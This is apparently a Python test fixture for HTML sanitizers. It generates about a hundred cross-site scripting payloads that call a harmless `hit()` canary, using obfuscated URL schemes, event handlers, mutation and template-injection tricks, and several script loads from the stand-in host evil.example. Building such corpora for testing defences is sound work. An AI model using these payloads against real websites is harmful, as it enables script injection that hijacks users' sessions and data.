"""Hostile words: what has run in other people's browsers, in some hundred shapes. Each calls `hit()` if it runs."""

from __future__ import annotations

_TAGS = ("img", "image", "svg", "body", "video", "audio", "iframe", "input", "details", "object", "embed", "marquee", "select", "textarea", "keygen", "math")  # fmt: skip
_EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbeforeinput", "onbegin", "onpageshow")  # fmt: skip
_BREAKS = ('"', "'", "`", '">', "'>", '"/>', "</title>", "</textarea>", "</script>", "</style>", "</svg>", "-->", "]]>", "</a>", "</option></select>", "</noscript>")  # fmt: skip
_SCHEMES = ("javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "java\tscript:hit()", "java\nscript:hit()", "\x01javascript:hit()", "javascript://%0Ahit()", "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "vbscript:hit()", "view-source:javascript:hit()", "feed:javascript:hit()", "//evil.example/x.js", "https://evil.example/<script>hit()</script>", "javascript&colon;hit()", "&#106;avascript:hit()", "jav&#x09;ascript:hit()")  # fmt: skip
_ODD = (
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script/x>hit()</script>", "<script\n>hit()</script\n>", "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<base href=//evil.example/>", "<form action=javascript:hit()><button>x</button></form>",
    "<a href=javascript:hit()>x</a>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<template><script>hit()</script></template>", "<!--<img src=x onerror=hit()>-->",
    "{{ 7*7 }}{% raw %}<script>hit()</script>", "{{ ''.__class__.__mro__ }}", "${hit()}", "#{hit()}", "<%= hit() %>", "{{constructor.constructor('hit()')()}}",
    "\u2028<script>hit()</script>", "\ufeff<script>hit()</script>", "<script>\u202ehit()</script>", "＜script＞hit()＜/script＞", "<\x00script>hit()</script>", "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "<x onclick=hit() style='position:fixed;inset:0'>x", "<div style=background:url(javascript:hit())>", "<img src='x' onerror=\"hit()\" //", "<img src=x:x onerror=hit()", "<plaintext>", "<xmp><script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;", "&amp;lt;script&amp;gt;hit()", "%3Cscript%3Ehit()%3C/script%3E", "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "=HYPERLINK(\"javascript:hit()\")",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} src=x {_EVENTS[place % len(_EVENTS)]}=hit() autofocus open>" for place, tag in enumerate(_TAGS)),
    *(f"<svg {event}=hit()>" for event in _EVENTS),
    *(f"{stop}<img src=x onerror=hit()>" for stop in _BREAKS),
    *(f"{stop} onfocus=hit() autofocus tabindex=1 x={stop}" for stop in _BREAKS[:3]),
    *_SCHEMES,
    *_ODD,
)
